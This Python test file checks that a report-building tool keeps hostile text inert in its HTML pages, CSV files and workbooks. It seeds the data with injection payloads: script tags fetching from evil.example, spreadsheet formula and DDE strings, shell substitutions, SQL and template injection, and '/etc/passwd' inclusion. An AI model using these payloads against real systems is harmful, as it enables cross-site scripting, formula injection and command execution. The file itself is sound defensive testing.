"""A data set whose every text carries markup, scripts, formulas, paths and shell words: all of it stays text."""

import csv
import json
import re
import shutil
from html import unescape
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from chromium import CHROMIUM, opened, serve_folder  # noqa: F401  the fixture server
from commandline import ickit
from conftest import ROOT

from ickit.tables.schema import TABLES

COURSES = "introductory-language-courses"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/x","y")',
    "<script>document.title='owned';fetch('http://evil.example/s')</script>",
    "<img src=http://evil.example/i onerror=console.error('owned')>",
    "[click](javascript:console.error('owned')) ![x](http://evil.example/m.png)",
    "../../../owned",
    "$(touch owned) `touch owned`; touch owned | touch owned",
    "'; DROP TABLE cities; --",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "$\\frac{a}{b}$ \\input{/etc/passwd}",
    '__import__("os").system("touch owned")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "\t=1+1",
    'x" onmouseover="console.error(1)" style="background:url(http://evil.example/b)',
    "</title></style></svg><svg onload=console.error('owned')>",
]
LIVE = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """A project whose source holds payloads in every text, with its pages made."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("notebooks", "data/benchmarks"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    for file in (ROOT / "data").glob("*.*"):
        shutil.copy(file, root / "data")
    assert ickit("demo", "-o", str(root / "data/net"), "--cities", "10", "--waves", "2022,2024").returncode == 0
    city = _poison(root / "data/net")
    reports = [
        {"notebook": "city_report", "for_each": {"city": [city]}, "parameters": {"year": 2024, "rank": True}},
        {"notebook": "peer_review", "for_each": {"city": [city]}, "parameters": {"year": 2024}},
        {"notebook": "key_factor_comparison", "parameters": {"year": 2024}},
        {"notebook": "charter_survey", "parameters": {"year": 2024, "benchmark": "charter"}},
        {"notebook": "data_quality"},
    ]
    content = {"run": "net", "title": PAYLOADS[1], "data": "../data/net", "benchmark": COURSES, "reports": reports}
    (root / "params").mkdir()
    (root / "params/net.yaml").write_text(json.dumps(content), encoding="utf-8")
    before = _files(root)
    done = ickit("run", "params/net.yaml", cwd=root)
    assert done.returncode == 0, done.stdout + done.stderr
    left = {name for name in _files(root) - before if not name.startswith("reports/")}
    assert left == set(), "no file outside the run's folder"
    return root


def _files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts}


def _poison(source: Path) -> str:
    """Put payloads in every text of the source that is free; returns a city whose every text holds some."""
    free = {
        table.name: [c.name for c in table.columns if c.kind == "text" and c.name not in table.key]
        for table in TABLES.values()
    }
    free["cities"] = ["name"]
    free["practices"] = ["title", "summary", "reference"]
    turn = 0
    for name, columns in free.items():
        file = source / f"{name}.csv"
        rows = pd.read_csv(file, dtype=str, keep_default_na=False)
        for column in columns:
            words = [f"{PAYLOADS[(turn + i) % len(PAYLOADS)]} {name} {i}" for i in range(len(rows))]
            rows[column] = words
            turn += 1
        rows.to_csv(file, index=False)
    reviewed = pd.read_csv(source / "assessments.csv").query("assessor == 'peer' and year == 2024")
    return str(reviewed["city"].iloc[0])


def test_every_page_is_free_of_scripts_and_requests_in_a_browser(made, server, tmp_path):
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    pages = [p for p in (made / "reports/net").rglob("*.html") if p.name != "index.html"]
    assert len(pages) == 5
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "evil.example" in html, f"{page} shows no payload, so it tests nothing"
        _, console, asked = opened(server, tmp_path, html, 1200)
        assert (console, asked) == ([], []), page
        server.asked.clear()


def test_the_index_shows_hostile_names_as_text(made, server, tmp_path):
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    html = (made / "reports/net/index.html").read_text(encoding="utf-8")
    assert PAYLOADS[1] in unescape(html)
    assert PAYLOADS[1] not in html
    _, console, asked = opened(server, tmp_path, html, 1200)
    assert (console, asked) == ([], [])


def test_no_cell_of_a_csv_file_begins_a_formula(made):
    files = list((made / "reports/net").rglob("*.csv"))
    seen = 0
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as text:
            for row in csv.reader(text):
                for cell in row:
                    seen += "evil.example" in cell
                    live = LIVE.match(cell) and not re.fullmatch(r"[-+]?[\d.]+(?:e[-+]?\d+)?", cell)
                    assert not live, f"{file}: {cell}"
    assert seen > 20


@pytest.mark.parametrize("kind", ["plan", "form"])
def test_no_workbook_holds_a_formula(made, tmp_path, kind):
    city = next((made / "reports/net/city_report").glob("*.html")).stem.partition("-2024")[0]
    out = tmp_path / f"{kind}.xlsx"
    given = ["--data", "data/net", "--year", "2024", "-o", str(out)]
    words = ["plan", city, *given] if kind == "plan" else ["form", COURSES, "--city", city, *given]
    done = ickit(*words, cwd=made)
    assert done.returncode == 0, done.stderr
    cells = [c for sheet in openpyxl.load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any("evil.example" in str(c.value) or "owned" in str(c.value) for c in cells)


def test_hostile_parameters_and_cities_become_no_path_and_no_code(made):
    before = _files(made)
    for city in ("../../../owned", "$(touch owned)", '__import__("os").system("touch owned")', "a\nimport os"):
        content = json.loads((made / "params/net.yaml").read_text(encoding="utf-8"))
        content |= {"run": "hostile", "reports": [{"notebook": "city_report", "for_each": {"city": [city]}}]}
        (made / "params/hostile.yaml").write_text(json.dumps(content), encoding="utf-8")
        done = ickit("run", "params/hostile.yaml", cwd=made)
        assert done.returncode == 2
        assert "is not a city" in done.stderr
        assert "Traceback" not in done.stderr
    assert _files(made) - before == {"params/hostile.yaml"}
    assert not list(made.parent.glob("owned*"))
